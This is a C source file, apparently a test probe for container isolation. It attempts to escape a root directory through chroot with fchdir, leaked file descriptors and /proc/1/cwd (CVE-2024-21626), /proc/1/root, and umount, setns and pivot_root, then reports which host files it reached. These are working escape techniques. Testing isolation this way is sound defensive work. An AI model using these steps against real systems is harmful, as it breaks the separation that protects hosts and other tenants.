/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to leave a root directory in the usual ways and says what it found: a line "reached NAME" for
 * each file of the guest that could be opened, then "done". Static, for any container.
 *
 *	escape MARKER...	paths that exist in the guest's root, and not in the container's
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char **markers;

static void look(const char *how)
{
	for (char **m = markers; *m; m++) {
		struct stat st;

		if (stat(*m, &st) == 0 || stat(*m + 1, &st) == 0)
			printf("reached %s by %s\n", *m, how);
	}
}

static void climb(void)
{
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
}

/* The root moves below us while a descriptor keeps where we were. */
static void by_chroot(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	(void)mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		printf("chroot: %s\n", strerror(errno));
		return;
	}
	(void)!fchdir(fd);
	climb();
	look("fchdir and ..");
	if (chroot(".") < 0)
		printf("chroot .: %s\n", strerror(errno));
	look("chroot of the top");
	climb();
	(void)!chroot(".");
	look("chroot once more");
}

/* Descriptors that were left open, and the working directory (CVE-2024-21626). */
static void by_descriptors(void)
{
	for (int fd = 3; fd < 1024; fd++) {
		char path[64];
		struct stat st;

		if (fstat(fd, &st) < 0)
			continue;
		printf("open fd %d\n", fd);
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (fchdir(fd) == 0) {
			look(path);
			climb();
			look("a descriptor and ..");
		}
	}
	(void)!chdir("/proc/1/cwd");
	climb();
	look("/proc/1/cwd");
	(void)!chdir("/proc/1/root");
	climb();
	look("/proc/1/root");
}

/* What covers the initramfs is taken away: needs CAP_SYS_ADMIN. */
static void by_mounts(void)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);

	if (umount2("/", MNT_DETACH) < 0)
		printf("umount /: %s\n", strerror(errno));
	look("umount of /");
	if (setns(fd, CLONE_NEWNS) < 0)
		printf("setns: %s\n", strerror(errno));
	look("setns");
	if (unshare(CLONE_NEWNS) < 0)
		printf("unshare: %s\n", strerror(errno));
	(void)mkdir("/tmp/new", 0755);
	if (syscall(SYS_pivot_root, "/tmp/new", "/tmp/new") < 0)
		printf("pivot_root: %s\n", strerror(errno));
	look("pivot_root");
	if (mount("proc", "/tmp/new", "proc", 0, NULL) < 0)
		printf("mount: %s\n", strerror(errno));
}

int main(int argc, char **argv)
{
	(void)argc;
	markers = argv + 1;
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	look("name");
	by_descriptors();
	by_mounts();
	by_chroot();
	puts("done");
	return 0;
}
